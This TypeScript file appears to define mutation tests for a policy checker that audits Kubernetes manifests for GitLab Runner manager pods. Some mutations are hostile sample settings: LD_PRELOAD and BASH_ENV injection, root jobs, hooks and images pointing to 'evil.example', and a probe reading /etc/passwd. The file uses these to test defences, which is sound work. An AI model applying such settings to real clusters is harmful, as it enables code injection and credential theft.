import { get, type Manifest, push, set } from '../edit';
import {
  inNamespace,
  type Mutation,
  manager,
  managerPod,
  mutation,
  ofRunner,
  setKubernetes,
} from './mutation';

const WORKLOADS: readonly (readonly [kind: string, apiVersion: string, path: readonly string[]])[] = [
  ['Deployment', 'apps/v1', ['spec', 'template']],
  ['ReplicaSet', 'apps/v1', ['spec', 'template']],
  ['StatefulSet', 'apps/v1', ['spec', 'template']],
  ['DaemonSet', 'apps/v1', ['spec', 'template']],
  ['Job', 'batch/v1', ['spec', 'template']],
  ['CronJob', 'batch/v1', ['spec', 'jobTemplate', 'spec', 'template']],
  ['ReplicationController', 'v1', ['spec', 'template']],
  ['Pod', 'v1', []],
];

const container = (name: string, finds: string, fields: Manifest, rule: string) =>
  mutation(rule, name, finds, (o) => {
    Object.assign(manager(o), fields);
  });
const pod = (name: string, finds: string, fields: Manifest, rule: string) =>
  mutation(rule, name, finds, (o) => {
    Object.assign(managerPod(o), fields);
  });
const started = (name: string, finds: string, fields: Manifest) =>
  container(name, finds, fields, 'manager-command');

const CONFIG = '--config=/etc/gitlab-runner/config.toml';

/** Changes of the pods that run GitLab Runner. */
export const MANAGER_POD_MUTATIONS: readonly Mutation[] = [
  started('a command of another program', 'MANAGER.containers[0].command | ["/usr/local/bin/agent"]', {
    command: ['/usr/local/bin/agent'],
  }),
  started('jobs as root', 'MANAGER.containers[0].args | ["--user=root"]', {
    args: ['run', CONFIG, '--user=root'],
  }),
  started('jobs as root, in two words', 'MANAGER.containers[0].args | ["--user","root"]', {
    args: ['run', CONFIG, '--user', 'root'],
  }),
  started('a listener of its own', 'MANAGER.containers[0].args | ["--listen-address",":8080"]', {
    args: ['run', CONFIG, '--listen-address', ':8080'],
  }),
  started('a word before the command', 'MANAGER.containers[0].command | ["env","LD_PRELOAD=/tmp/x.so"]', {
    command: ['env', 'LD_PRELOAD=/tmp/x.so', 'gitlab-runner'],
  }),
  started(
    'a program that is called like GitLab Runner',
    'MANAGER.containers[0].command | ["/tmp/gitlab-runner"]',
    { command: ['/tmp/gitlab-runner'] },
  ),
  container(
    'a library for every program',
    'MANAGER.containers[0].env[0] | LD_PRELOAD',
    { env: [{ name: 'LD_PRELOAD', valueFrom: { secretKeyRef: { name: 'docker-token', key: 'x' } } }] },
    'manager-shape',
  ),
  mutation('manager-shape', 'a script for every shell', 'MANAGER.containers[0].env[1] | BASH_ENV', (o) =>
    push(manager(o), 'env', {
      name: 'BASH_ENV',
      valueFrom: { secretKeyRef: { name: 'docker-token', key: 'runner-token' } },
    }),
  ),
  container(
    'a hook without a shell',
    'MANAGER.containers[0].lifecycle | {"preStop":{"exec":{"command":["gitlab-runner","x"]}}}',
    { lifecycle: { preStop: { exec: { command: ['gitlab-runner', 'x'] } } } },
    'manager-fields',
  ),
  container(
    'a hook that calls somebody',
    'MANAGER.containers[0].lifecycle | {"postStart":{"httpGet":{"host":"evil.example","port":80}}}',
    { lifecycle: { postStart: { httpGet: { host: 'evil.example', port: 80 } } } },
    'manager-fields',
  ),
  container(
    'a working directory',
    'MANAGER.containers[0].workingDir | /tmp',
    { workingDir: '/tmp' },
    'manager-fields',
  ),
  container('a terminal', 'MANAGER.containers[0].tty | true', { tty: true }, 'manager-fields'),
  container(
    'last words over its configuration',
    'MANAGER.containers[0].terminationMessagePath | /etc/gitlab-runner/config.toml',
    { terminationMessagePath: '/etc/gitlab-runner/config.toml' },
    'manager-fields',
  ),
  container(
    'a probe that is a program',
    'MANAGER.containers[0].livenessProbe | {"exec":{"command":["cat","/etc/passwd"]}}',
    { livenessProbe: { exec: { command: ['cat', '/etc/passwd'] } } },
    'manager-probes',
  ),
  container(
    'a probe that shows its memory',
    'MANAGER.containers[0].readinessProbe | {"httpGet":{"path":"/debug/pprof/heap","port":9252}}',
    { readinessProbe: { httpGet: { path: '/debug/pprof/heap', port: 9252 } } },
    'manager-probes',
  ),
  pod('a RuntimeClass', 'MANAGER.runtimeClassName | kata', { runtimeClassName: 'kata' }, 'manager-fields'),
  pod(
    'an init container',
    'MANAGER.initContainers | [{"name":"first","image":"registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2"}]',
    {
      initContainers: [
        { name: 'first', image: 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2' },
      ],
    },
    'manager-fields',
  ),
  pod(
    'host aliases, even of itself',
    'MANAGER.hostAliases | [{"ip":"127.0.0.1","hostnames":["gitlab.com"]}]',
    { hostAliases: [{ ip: '127.0.0.1', hostnames: ['gitlab.com'] }] },
    'manager-fields',
  ),
  pod('a resolver of its own', 'MANAGER.dnsPolicy | None', { dnsPolicy: 'None' }, 'manager-fields'),
  pod(
    'search domains',
    'MANAGER.dnsConfig | {"searches":["evil.example"]}',
    { dnsConfig: { searches: ['evil.example'] } },
    'manager-fields',
  ),
  pod(
    'an affinity to the nodes of dind among others',
    'MANAGER.affinity.nodeAffinity | {"pool":"dind"}',
    {
      affinity: {
        nodeAffinity: {
          preferredDuringSchedulingIgnoredDuringExecution: [
            {
              weight: 1,
              preference: { matchExpressions: [{ key: 'pool', operator: 'In', values: ['ci', 'dind'] }] },
            },
          ],
        },
      },
    },
    'manager-nodes',
  ),
  pod(
    'an affinity',
    'MANAGER.affinity.podAffinity | {}',
    { affinity: { podAffinity: {} } },
    'manager-fields',
  ),
  pod(
    'a distance that it insists on',
    'MANAGER.affinity.podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution | [{}]',
    { affinity: { podAntiAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [{}] } } },
    'manager-fields',
  ),
  pod('an end', 'MANAGER.activeDeadlineSeconds | 60', { activeDeadlineSeconds: 60 }, 'manager-fields'),
  pod(
    'variables of Services',
    'MANAGER.enableServiceLinks | true',
    { enableServiceLinks: true },
    'manager-fields',
  ),
  pod(
    'a pull secret of somebody',
    'MANAGER.imagePullSecrets[0] | mine | none',
    { imagePullSecrets: [{ name: 'mine' }] },
    'manager-fields',
  ),
  mutation(
    'manager-fields',
    'the group of a device',
    'MANAGER.securityContext.supplementalGroups | [6]',
    (o) => set(managerPod(o), 'securityContext.supplementalGroups', [6]),
  ),
  mutation(
    'manager-mounts',
    'scratch space over its programs',
    'MANAGER.containers[0].volumeMounts[4] | /usr/bin | /etc/gitlab-runner, /home/gitlab-runner, /tmp',
    (o) => push(manager(o), 'volumeMounts', { name: 'home', mountPath: '/usr/bin' }),
  ),
  mutation(
    'manager-mounts',
    'a path from its environment',
    'MANAGER.containers[0].volumeMounts[0].subPathExpr | $(RUNNER_TOKEN)',
    (o) => set(manager(o), 'volumeMounts.0.subPathExpr', '$(RUNNER_TOKEN)'),
  ),
  mutation('manager-nodes', 'a place on the nodes of dind', 'MANAGER.nodeSelector | {"pool":"dind"}', (o) =>
    set(managerPod(o), 'nodeSelector', { 'kubernetes.io/os': 'linux', pool: 'dind' }),
  ),
  container(
    'an image of another registry',
    'MANAGER.containers[0].image | evil.example/gitlab-org/agent:v19.3.2 | an image called gitlab-runner',
    { image: 'evil.example/gitlab-org/agent:v19.3.2' },
    'manager-image',
  ),
  container(
    'an image of the same registry that is no runner',
    'MANAGER.containers[0].image | registry.gitlab.com/evil/tool:v19.3.2 | an image called gitlab-runner',
    { image: 'registry.gitlab.com/evil/tool:v19.3.2' },
    'manager-image',
  ),
  container(
    'the image of the helper, of the same registry and project',
    'MANAGER.containers[0].image | registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:alpine-v19.3.2 | an image called gitlab-runner',
    { image: 'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:alpine-v19.3.2' },
    'manager-image',
  ),
  mutation(
    'manager-image',
    'the image of another flavour than the user of the pod',
    'MANAGER.containers[0].securityContext.runAsUser | 100 with registry.gitlab.com/gitlab-org/gitlab-runner:ubuntu-v19.3.2',
    (o) => set(manager(o), 'image', 'registry.gitlab.com/gitlab-org/gitlab-runner:ubuntu-v19.3.2'),
  ),
  mutation(
    'manager-image',
    'a user that is of another flavour',
    'MANAGER.containers[0].securityContext.runAsUser | 999 with registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2',
    (o) => set(managerPod(o), 'securityContext.runAsUser', 999),
  ),
  mutation(
    'helper-image',
    'a helper of another version',
    'KUBERNETES.helper_image | registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.3.1 | v19.3.2',
    setKubernetes(
      'helper_image',
      'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.3.1',
    ),
  ),
  mutation(
    'manager-image',
    'a version of which nobody here knows what it reads',
    'MANAGER.containers[0].image | registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v18.11.4 | 19.1, 19.2, 19.3, 19.4',
    (o) => set(manager(o), 'image', 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v18.11.4'),
  ),
  mutation(
    'manager-probes',
    'an address at which its version does not answer',
    'MANAGER.containers[0].livenessProbe.httpGet.path | /health/ready of v19.1.2 | /metrics',
    (o) => set(manager(o), 'image', 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.1.2'),
  ),
  mutation(
    'helper-image',
    'a helper of another minor version',
    'KUBERNETES.helper_image | registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.2.2 | v19.3.2',
    setKubernetes(
      'helper_image',
      'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.2.2',
    ),
  ),
  mutation(
    'helper-image',
    'a helper for other nodes',
    'KUBERNETES.helper_image | registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:arm64-v19.3.2 | amd64',
    setKubernetes(
      'helper_image',
      'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:arm64-v19.3.2',
    ),
  ),
  mutation(
    'helper-image',
    'the manager as the helper',
    'KUBERNETES.helper_image | registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2 | gitlab-runner-helper',
    setKubernetes('helper_image', 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2'),
  ),
  mutation(
    'manager-replicas',
    'more managers while they are replaced than their quota has room for',
    'ResourceQuota tinyland-runners/managers / spec.hard.pods | 26 | 12',
    (o) => set(ofRunner(o, 'Deployment'), 'spec.strategy.rollingUpdate.maxSurge', 20),
  ),
  mutation(
    'manager-replicas',
    'more managers than their quota has room for',
    'ResourceQuota tinyland-runners/managers / spec.hard.pods | 14 | 12',
    (o) => set(ofRunner(o, 'Deployment'), 'spec.replicas', 9),
  ),
  ...WORKLOADS.map(([kind, apiVersion, path]) =>
    mutation(
      'service-account-no-strangers',
      `a ${kind} that is a manager too`,
      `${kind} tinyland-runners/dind-manager-x / ${[...path, 'spec'].join('.')}.serviceAccountName | tinyland-runners/dind-manager`,
      (o) => {
        const template = structuredClone(get(ofRunner(o, 'Deployment', 'dind'), 'spec.template')) as Manifest;
        const added = inNamespace(o, kind, apiVersion, {});
        if (path.length === 0) {
          Object.assign(added, { spec: template['spec'] });
        } else {
          set(added, path, template);
        }
        set(added, 'metadata.name', 'dind-manager-x');
        o.push(added);
      },
    ),
  ),
];
